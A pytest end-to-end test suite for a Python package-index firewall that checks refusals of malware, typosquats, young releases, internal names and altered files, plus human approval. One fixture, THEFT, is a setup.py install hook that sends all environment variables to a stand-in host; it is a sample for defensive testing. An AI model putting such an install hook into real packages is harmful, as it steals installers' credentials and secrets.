"""What pip and uv get, and what they print, through the firewall as its operator starts it."""

from __future__ import annotations

import json
import shutil
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from tests.e2e.serving import (
    Outcome,
    Running,
    built_sdist,
    built_wheel,
    pip_install,
    serving,
    uv_install,
)

from stockade.cli.main import main
from stockade.store.events import EventLog
from stockade.testing.index_server import IndexServer, ServedProject
from stockade.testing.loopback import Fault

POLICY = """
[protect]
names = ["acme-corp-utils"]
patterns = ["acme-internal-*"]
"""
THEFT = b"""
import base64, json, os, urllib.request
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        data = base64.b64encode(json.dumps(dict(os.environ)).encode())
        urllib.request.urlopen("https://telemetry.acme-corp.invalid/v1", data)
        install.run(self)
setup(name="color-helper", version="1.0", cmdclass={"install": Install})
"""
Install = Callable[..., Outcome]


@dataclass
class Place:
    """A firewall with its upstream."""

    firewall: Running
    upstream: IndexServer
    home: Path

    def get(self, path: str, accept: str = "*/*") -> tuple[int, str, bytes]:
        """Status, reason phrase and body of an answer."""
        address = f"{self.firewall.url}{path}"
        request = urllib.request.Request(address, headers={"Accept": accept})  # noqa: S310 - loopback
        try:
            with urllib.request.urlopen(request, timeout=30) as reply:  # noqa: S310 - loopback
                return reply.status, reply.reason, reply.read()
        except urllib.error.HTTPError as error:
            with error:
                return error.code, error.reason, error.read()

    def page(self, name: str) -> dict[str, Any]:
        """A project's page."""
        status, _, body = self.get(f"/simple/{name}/", "application/vnd.pypi.simple.v1+json")
        assert status == 200
        found: dict[str, Any] = json.loads(body)
        return found


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory, fresh_feeds: Path) -> Iterator[Place]:
    """One firewall for all; a test that changes what upstream offers has a project of its own."""
    folder = tmp_path_factory.mktemp("serving")
    with IndexServer() as index:
        for files in (
            (built_wheel("goodlib", "1.0"), built_wheel("goodlib", "2.0", days=1)),
            (built_wheel("evil-tool", "1.0"),),
            (built_wheel("torch-utilites", "1.0", days=20),),
            (built_wheel("acme-corp-util", "1.0", days=20),),
            (built_wheel("acme-corp-utils", "9.0", days=20),),
            (built_sdist("color-helper", "1.0", {"setup.py": THEFT}),),
        ):
            index.put(ServedProject(name=files[0].filename.partition("-")[0].replace("_", "-"), files=files))
        shutil.copytree(fresh_feeds, folder / "state" / "feeds")
        with serving(index, folder / "state", "--fresh", "0", policy=POLICY) as firewall:
            yield Place(firewall, index, folder)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Where a client runs."""
    return tmp_path


@pytest.fixture(params=[pip_install, uv_install], ids=["pip", "uv"])
def install(request: pytest.FixtureRequest) -> Install:
    found: Install = request.param
    return found


def test_an_innocent_project_installs_in_its_newest_admitted_release(
    place: Place, install: Install, home: Path
) -> None:
    outcome = install(place.firewall, home, "goodlib")
    assert outcome.status == 0, outcome.said
    assert {"goodlib", "goodlib-1.0.dist-info"} <= outcome.installed


def test_a_release_that_is_too_young_is_refused_with_its_reason(
    place: Place, install: Install, home: Path
) -> None:
    outcome = install(place.firewall, home, "goodlib==2.0")
    assert outcome.status != 0
    assert "Stockade SK-" in outcome.said
    assert not outcome.installed


@pytest.mark.parametrize("name", ["evil-tool", "torch-utilites", "acme-corp-util"])
def test_malware_and_squats_are_refused_with_their_reason(
    place: Place, install: Install, home: Path, name: str
) -> None:
    outcome = install(place.firewall, home, name)
    assert outcome.status != 0
    assert "Stockade SK-" in outcome.said
    assert not outcome.installed


def test_code_that_steals_while_it_is_installed_is_refused_before_it_runs(
    place: Place, install: Install, home: Path
) -> None:
    outcome = install(place.firewall, home, "color-helper")
    assert outcome.status != 0
    assert "Stockade SK-" in outcome.said
    assert "STK-E101" in outcome.said
    status, reason, _ = place.get("/files/color-helper/color_helper-1.0.tar.gz")
    assert (status, "STK-E101" in reason) == (403, True)
    (file,) = place.page("color-helper")["files"]
    assert file["url"].startswith("../../files/")


def test_an_internal_name_never_leaves(place: Place, install: Install, home: Path) -> None:
    outcome = install(place.firewall, home, "acme-corp-utils")
    assert outcome.status != 0
    assert place.upstream.asked("/simple/acme-corp-utils/") == 0
    assert place.get("/simple/acme-internal-x/")[0] == 404
    assert place.upstream.asked("/simple/acme-internal-x/") == 0


@pytest.mark.parametrize(
    "path",
    [
        "/files/goodlib/goodlib-2.0-py3-none-any.whl",
        "/files/goodlib/goodlib-2.0-py3-none-any.whl.metadata",
        "/files/goodlib/goodlib-2.0-py3-none-any.whl.provenance",
        "/files/Goodlib/goodlib-2.0-py3-none-any.whl",
        "/files/goodlib/goodlib-2.0-py3-none-any.whl?x=1",
        "/files/goodlib/goodlib-2%2E0-py3-none-any.whl",
    ],
)
def test_a_refused_file_is_refused_on_every_path(place: Place, path: str) -> None:
    status, reason, body = place.get(path)
    assert status == 403
    assert reason.startswith("Stockade SK-")
    assert b"VALUE" not in body


@pytest.mark.parametrize(
    "path",
    [
        "/files/goodlib/goodlib-2.0-py3-none-any.whl.metadata.metadata",
        "/files/evil-tool/goodlib-1.0-py3-none-any.whl",
        "/files/goodlib/../goodlib/goodlib-3.0-py3-none-any.whl",
        "/files/goodlib/",
        "/simple/goodlib/goodlib-2.0-py3-none-any.whl",
        "/simple/no-such-project/",
    ],
)
def test_what_no_page_lists_is_not_there(place: Place, path: str) -> None:
    assert place.get(path)[0] == 404


def test_a_file_that_changes_under_its_name_is_refused(place: Place, install: Install, home: Path) -> None:
    name = f"changing-{install.__name__.partition('_')[0]}"
    place.upstream.put(ServedProject(name=name, files=(built_wheel(name, "1.0"),)))
    assert install(place.firewall, home / "first", name).status == 0
    changed = built_wheel(name, "1.0", code=b"VALUE = 2\n")
    place.upstream.put(ServedProject(name=name, files=(changed,)))
    outcome = install(place.firewall, home / "second", name)
    assert outcome.status != 0
    assert "Stockade SK-" in outcome.said
    assert place.get(f"/files/{name}/{changed.filename}")[0] == 403


def test_what_was_seen_of_a_file_outlives_the_process(
    tmp_path: Path, index: IndexServer, fresh_feeds: Path
) -> None:
    state = tmp_path / "state"
    shutil.copytree(fresh_feeds, state / "feeds")
    index.put(ServedProject(name="goodlib", files=(built_wheel("goodlib", "1.0"),)))
    path = "/files/goodlib/goodlib-1.0-py3-none-any.whl"
    with serving(index, state, "--fresh", "0") as first:
        assert Place(first, index, tmp_path).get(path)[0] == 200
        first.kill()
    index.put(ServedProject(name="goodlib", files=(built_wheel("goodlib", "1.0", code=b"VALUE = 2\n"),)))
    with serving(index, state, "--fresh", "0") as second:
        assert Place(second, index, tmp_path).get(path)[0] == 403


def test_a_file_that_is_not_what_its_page_says_never_reaches_a_client(
    place: Place, install: Install, home: Path
) -> None:
    name = f"liar-{install.__name__.partition('_')[0]}"
    honest = built_wheel(name, "1.0", announced=False)
    place.upstream.put(ServedProject(name=name, files=(honest,)))
    place.upstream.fail(f"/files/{name}/{honest.filename}", Fault.ALTERED)
    outcome = install(place.firewall, home, name)
    assert outcome.status != 0
    assert not outcome.installed


def test_why_tells_the_whole_story(
    place: Place, install: Install, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outcome = install(place.firewall, home, "goodlib==2.0")
    code = outcome.said.partition("Stockade ")[2].partition(":")[0]
    assert main(["why", code, "--state", str(place.firewall.state)]) == 0
    said = capsys.readouterr().out
    assert "goodlib-2.0-py3-none-any.whl" in said
    assert "STK-F" in said
    assert f"To let it in: stockade quarantine approve {code} --reason '…' --state " in said
    assert main(["why", "goodlib", "--state", str(place.firewall.state)]) == 0
    assert code in capsys.readouterr().out


def test_a_person_lets_a_held_file_in(
    tmp_path: Path,
    index: IndexServer,
    fresh_feeds: Path,
    install: Install,
    capsys: pytest.CaptureFixture[str],
) -> None:
    state = tmp_path / "state"
    shutil.copytree(fresh_feeds, state / "feeds")
    index.put(ServedProject(name="goodlib", files=(built_wheel("goodlib", "2.0", days=1),)))
    with serving(index, state) as firewall:
        first = install(firewall, tmp_path / "first", "goodlib")
        code = first.said.partition("Stockade ")[2].partition(":")[0]
        assert first.status != 0
        approve = ["quarantine", "approve", code, "--reason", "read it", "--state", str(state)]
        assert main(["quarantine", "show", code, "--state", str(state)]) == 0
        said = capsys.readouterr().out
        assert f"To let it in: stockade quarantine approve {code} --reason '…' --state {state}" in said
        assert main(approve) == 0
        time.sleep(1)  # another process's approval is noticed within half a second
        assert install(firewall, tmp_path / "second", "goodlib").status == 0
        capsys.readouterr()
        assert main(["quarantine", "list", "--state", str(state)]) == 0
        assert "read it" in capsys.readouterr().out
    with EventLog.open(f"sqlite:///{state}/events.db") as log:
        kinds = [each.event.kind for each in log.query()]
    assert kinds.count("approval.given") == 1
    assert "file.served" in kinds


def test_an_operator_without_advisories_is_told_before_the_first_client_is(
    tmp_path: Path, index: IndexServer
) -> None:
    with serving(index, tmp_path / "state") as firewall:
        assert Place(firewall, index, tmp_path).get("/healthz")[0] == 200
        command = f"STOCKADE_STATE={firewall.state} stockade feed update"
        assert any("advisories are missing" in line and command in line for line in firewall.said)


def test_it_ends_with_0_when_it_is_asked_to(tmp_path: Path, index: IndexServer) -> None:
    with serving(index, tmp_path / "state") as firewall:
        assert Place(firewall, index, tmp_path).get("/readyz")[0] == 200
        assert firewall.stop() == 0
